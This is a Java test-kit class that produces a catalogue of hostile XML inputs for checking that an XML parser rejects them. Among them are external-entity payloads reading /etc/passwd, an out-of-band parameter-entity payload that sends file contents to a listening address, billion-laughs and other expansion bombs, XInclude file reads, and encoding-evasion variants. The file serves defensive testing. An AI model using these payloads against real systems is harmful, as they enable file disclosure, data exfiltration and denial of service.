package se.samverkstad.testkit.xml;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * Files that make a careless reader fetch, open or grow. Each wraps the same harmless root, so that a door that reads them
 * has no other reason to refuse them.
 */
public final class HostileXml {
    private HostileXml() {}

    /**
     * By name.
     *
     * @param canary an address that someone listens at; whoever asks there has been led astray
     * @param root the name of the element that the door expects, such as {@code rss}
     */
    public static Map<String, byte[]> all(String canary, String root) {
        Map<String, String> texts = new LinkedHashMap<>();
        String file = "file:///etc/passwd";
        texts.put("entity of a file", entity(root, "<!ENTITY x SYSTEM \"" + file + "\">"));
        texts.put("entity of an address", entity(root, "<!ENTITY x SYSTEM \"" + canary + "\">"));
        texts.put("entity by a public name", entity(root, "<!ENTITY x PUBLIC \"-//a//b\" \"" + canary + "\">"));
        texts.put("entity of a jar", entity(root, "<!ENTITY x SYSTEM \"jar:" + canary + "a.jar!/b\">"));
        texts.put("entity of ftp", entity(root, "<!ENTITY x SYSTEM \"ftp://127.0.0.1/a\">"));
        texts.put("entity of a share", entity(root, "<!ENTITY x SYSTEM \"//127.0.0.1/a/b\">"));
        texts.put("entity of the place beside", entity(root, "<!ENTITY x SYSTEM \"../../../etc/passwd\">"));
        texts.put("parameter entity", entity(root, "<!ENTITY % p SYSTEM \"" + canary + "\"> %p;"));
        texts.put(
                "parameter entity that sends a file on",
                entity(
                        root,
                        "<!ENTITY % f SYSTEM \"" + file + "\"><!ENTITY % e \"<!ENTITY &#x25; s SYSTEM '" + canary
                                + "?%f;'>\"> %e; %s;"));
        texts.put("document type elsewhere", "<!DOCTYPE " + root + " SYSTEM \"" + canary + "\">" + element(root, ""));
        texts.put(
                "document type by a public name",
                "<!DOCTYPE " + root + " PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"" + canary + "\">"
                        + element(root, ""));
        texts.put("empty document type", "<!DOCTYPE " + root + ">" + element(root, ""));
        texts.put("document type in small letters", "<!doctype " + root + ">" + element(root, ""));
        texts.put("notation", entity(root, "<!NOTATION n SYSTEM \"" + canary + "\">"));
        texts.put(
                "unparsed entity",
                entity(root, "<!NOTATION n SYSTEM \"a\"><!ENTITY x SYSTEM \"" + canary + "\" NDATA n>"));
        texts.put("billion laughs", laughs(root));
        texts.put("quadratic growth", entity(root, "<!ENTITY x \"" + "a".repeat(50_000) + "\">", "&x;".repeat(10_000)));
        texts.put("entity in itself", entity(root, "<!ENTITY x \"&y;\"><!ENTITY y \"&x;\">"));
        texts.put("attribute with a default", entity(root, "<!ATTLIST " + root + " a CDATA \"&x;\"><!ENTITY x \"b\">"));
        texts.put(
                "inclusion of a file",
                element(
                        root,
                        "<i:include xmlns:i=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"" + file
                                + "\"/>"));
        texts.put(
                "inclusion of an address",
                element(root, "<i:include xmlns:i=\"http://www.w3.org/2001/XInclude\" href=\"" + canary + "\"/>"));
        texts.put(
                "schema elsewhere",
                "<" + root + " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"a " + canary
                        + "\" xsi:noNamespaceSchemaLocation=\"" + canary + "\"/>");
        texts.put(
                "style elsewhere", "<?xml-stylesheet type=\"text/xsl\" href=\"" + canary + "\"?>" + element(root, ""));
        texts.put("half a million elements inside each other", "<a>".repeat(500_000));
        texts.put("fifty thousand attributes", "<" + root + attributes() + "/>");
        texts.put("an endless name", "<" + "a".repeat(3_000_000));

        Map<String, byte[]> all = new LinkedHashMap<>();
        texts.forEach((name, text) -> all.put(name, text.getBytes(StandardCharsets.UTF_8)));
        String hidden = entity(root, "<!ENTITY x SYSTEM \"" + canary + "\">");
        all.put("entity in UTF-16", in(hidden, StandardCharsets.UTF_16));
        all.put("entity in UTF-16 without a mark", in(hidden, StandardCharsets.UTF_16LE));
        all.put("entity in UTF-7", hidden.replace("<", "+ADw-").getBytes(StandardCharsets.US_ASCII));
        return all;
    }

    private static byte[] in(String text, Charset charset) {
        return ("<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + text).getBytes(charset);
    }

    private static String entity(String root, String declarations) {
        return entity(root, declarations, "&x;");
    }

    private static String entity(String root, String declarations, String content) {
        return "<!DOCTYPE " + root + " [" + declarations + "]>" + element(root, content);
    }

    private static String element(String root, String content) {
        return "<" + root + ">" + content + "</" + root + ">";
    }

    private static String laughs(String root) {
        StringBuilder declarations = new StringBuilder("<!ENTITY x0 \"ha\">");
        for (int i = 1; i < 30; i++) {
            declarations.append("<!ENTITY x%d \"%s\">".formatted(i, ("&x" + (i - 1) + ";").repeat(10)));
        }
        return entity(root, declarations.toString(), "&x29;");
    }

    private static String attributes() {
        StringBuilder attributes = new StringBuilder();
        for (int i = 0; i < 50_000; i++) {
            attributes.append(" a").append(i).append("=\"\"");
        }
        return attributes.toString();
    }
}
